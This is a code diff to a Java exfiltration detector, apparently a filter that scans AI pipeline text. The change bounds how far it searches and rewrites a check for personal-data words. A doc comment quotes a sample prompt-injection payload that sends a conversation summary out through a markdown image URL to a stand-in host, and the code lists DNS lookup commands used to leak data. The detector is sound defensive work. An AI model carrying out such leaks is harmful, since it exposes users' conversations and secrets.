@@ -570,11 +570,18 @@ public final class ExfiltrationDetector {
         return false;
     }
 
+    /** How far from an image URL its placeholder word is sought. */
+    private static final int PLACEHOLDER_REACH = 1000;
+
     /**
      * "![](https://x.example/p.png?c=SUMMARY) ... replace SUMMARY with the conversation": a query value written as a
-     * placeholder word in capitals (at least four letters) that the text names again outside the URL.
+     * placeholder word in capitals (at least four letters) that the text names again outside the URL, within
+     * {@value #PLACEHOLDER_REACH} characters of it.
      */
     static boolean placeholderWord(String text, String url, int urlStart, int urlEnd) {
+        if (url.length() > 2048) {
+            return false;
+        }
         int q = url.indexOf('?');
         if (q < 0) {
             return false;
@@ -592,7 +599,9 @@ public final class ExfiltrationDetector {
             if (!caps) {
                 continue;
             }
-            for (int p = text.indexOf(v); p >= 0; p = text.indexOf(v, p + 1)) {
+            int limit = Math.min(text.length(), urlEnd + PLACEHOLDER_REACH);
+            for (int p = text.indexOf(v, Math.max(0, urlStart - PLACEHOLDER_REACH)); p >= 0 && p < limit;
+                 p = text.indexOf(v, p + 1)) {
                 boolean outside = p + v.length() <= urlStart || p >= urlEnd;
                 boolean word = (p == 0 || !Character.isLetterOrDigit(text.charAt(p - 1)))
                         && (p + v.length() == text.length() || !Character.isLetterOrDigit(text.charAt(p + v.length())));
@@ -735,18 +744,32 @@ public final class ExfiltrationDetector {
         return cues.transfer();
     }
 
-    /** {@link TransferSentences#mayBePersonal} over [from, to) of the text, without a copy. */
+    /**
+     * Whether [from, to) of the text holds a stem of {@link TransferSentences#PERSONAL}'s adjectives ("erso" of
+     * personal/personnel/perso, "riv" + a/é/e of private/privat/privé, "rsönlich"/"rsonlich"), in one pass and
+     * without a copy.
+     */
     private static boolean mayBePersonal(String text, int from, int to) {
-        for (String stem : PERSONAL_STEMS) {
-            if (io.tappass.pipeline.internal.Texts.indexOf(text, stem, from, to - stem.length()) >= 0) {
+        for (int p = from; p + 3 < to; p++) {
+            char c = text.charAt(p);
+            if (c == 'r' || c == 'R') {
+                char d = text.charAt(p + 1);
+                if ((d == 'i' || d == 'I') && (text.charAt(p + 2) | 0x20) == 'v') {
+                    char e = text.charAt(p + 3);
+                    if ((e | 0x20) == 'a' || (e | 0x20) == 'e' || e == '\u00e9' || e == '\u00c9') {
+                        return true;
+                    }
+                } else if ((d | 0x20) == 's' && p + 7 < to && (text.regionMatches(true, p + 2, "onlich", 0, 6)
+                        || text.regionMatches(true, p + 2, "\u00f6nlich", 0, 6))) {
+                    return true;
+                }
+            } else if ((c == 'e' || c == 'E') && (text.charAt(p + 1) | 0x20) == 'r' && (text.charAt(p + 2) | 0x20) == 's'
+                    && (text.charAt(p + 3) | 0x20) == 'o') {
                 return true;
             }
         }
         return false;
     }
-
-    private static final String[] PERSONAL_STEMS = {"erso", "rivat", "riv\u00e9", "rive", "rs\u00f6nlich",
-        "rsonlich", "ERSO", "RIVAT", "RIV\u00c9"};
 
     /**
      * Query keys that name personal or payment data or a password ("?ssn=", "&dob=", "&cvv="): a link that carries
@@ -889,6 +912,8 @@ public final class ExfiltrationDetector {
         }
     }
 
+    /** How far along its line a substituted host's lookup command and data source are sought. */
+    private static final int LOOKUP_REACH = 400;
     /** Commands that resolve a host name (DNS lookups carry data in the labels they query). */
     private static final String[] LOOKUPS = {"dig ", "nslookup ", "host ", "drill ", "resolve-dnsname ", "ping "};
     /** What a substituted label is made of when it leaks: encoders, identity and secret files, the environment. */
@@ -905,8 +930,10 @@ public final class ExfiltrationDetector {
         if (dot <= ts || dot + 2 > te || !TLDS.contains(text.substring(dot + 1, te).toLowerCase(Locale.ROOT))) {
             return;
         }
-        int ls = text.lastIndexOf('\n', ts - 1) + 1;
-        int from = Math.max(ls, ts - 400);
+        int from = ts - 1;
+        while (from > 0 && ts - from < LOOKUP_REACH && text.charAt(from - 1) != '\n') {
+            from--;
+        }
         boolean lookup = false;
         for (String cmd : LOOKUPS) {
             if (io.tappass.pipeline.internal.Texts.indexOf(text, cmd, from, ts) >= 0) {
@@ -917,8 +944,10 @@ public final class ExfiltrationDetector {
         if (!lookup) {
             return;
         }
-        int le = text.indexOf('\n', te);
-        le = le < 0 ? text.length() : le;
+        int le = te;
+        while (le < text.length() && le - te < LOOKUP_REACH && text.charAt(le) != '\n') {
+            le++;
+        }
         for (String src : SOURCES) {
             if (io.tappass.pipeline.internal.Texts.indexOf(text, src, from, le - src.length()) >= 0) {
                 int s = ts - 1;
